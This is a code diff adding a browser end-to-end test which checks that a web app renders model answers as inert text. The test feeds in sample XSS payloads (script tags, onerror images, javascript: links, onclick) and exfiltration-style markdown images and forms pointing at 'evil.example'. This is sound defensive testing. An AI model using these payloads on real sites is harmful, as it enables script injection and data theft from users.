@@ -2,7 +2,8 @@ import { createRequire } from "node:module";
 import type { Browser } from "playwright-core";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { type Bench, startBench } from "../e2e/bench.js";
-import { planning, planOf } from "../e2e/scripts.js";
+import { isAnswering, isPlanning, planning, planOf } from "../e2e/scripts.js";
+import { sandboxReply } from "../llm/sandbox-reply.js";
 import { forModel } from "../loopback/fault-rules.js";
 import { failWith } from "../loopback/faults.js";
 import { NO_BROWSER, openPage, startBrowser } from "./browser.js";
@@ -168,6 +169,33 @@ describe.skipIf(NO_BROWSER !== null)(`the page${NO_BROWSER ? ` (skipped: ${NO_BR
       });
       expect(excess, view).toBeLessThanOrEqual(0);
     }
+  });
+
+  it("shows words of a model as words: nothing runs, nothing is fetched, no link leads astray", async () => {
+    const words = [
+      "![x](https://evil.example/?d=1)",
+      "<img src=x onerror=alert(1)>",
+      "<script>alert(1)</script>",
+      "[a](javascript:alert(1)) [b](data:text/html,x) <a href='https://good.example/' onclick='x'>c</a>",
+      "<form action=https://evil.example><input name=p></form> **bold**",
+    ].join("\n\n");
+    bench.answerBy((call) =>
+      isPlanning(call) ? planOf(MOOD) : isAnswering(call) ? words : sandboxReply(call),
+    );
+    const run = await server.begin("what is the mood?");
+    await server.ended(run);
+    const { page, complaints } = await open();
+    const asked: string[] = [];
+    page.on("request", (request) => asked.push(new URL(request.url()).host));
+    await page.goto(`${server.url}/#/run/${run}`);
+    const answer = page.locator(".answer");
+    await answer.getByText("bold").waitFor();
+    expect(await answer.locator("img, script, form, input, [onclick]").count()).toBe(0);
+    expect(
+      await answer.locator("a[href]").evaluateAll((all) => all.map((one) => one.getAttribute("href"))),
+    ).toEqual(["https://good.example/"]);
+    expect(asked.filter((host) => host !== new URL(server.url).host)).toEqual([]);
+    expect(complaints).toEqual([]);
   });
 
   it("speaks Chinese where the browser does, and English where it is switched", async () => {
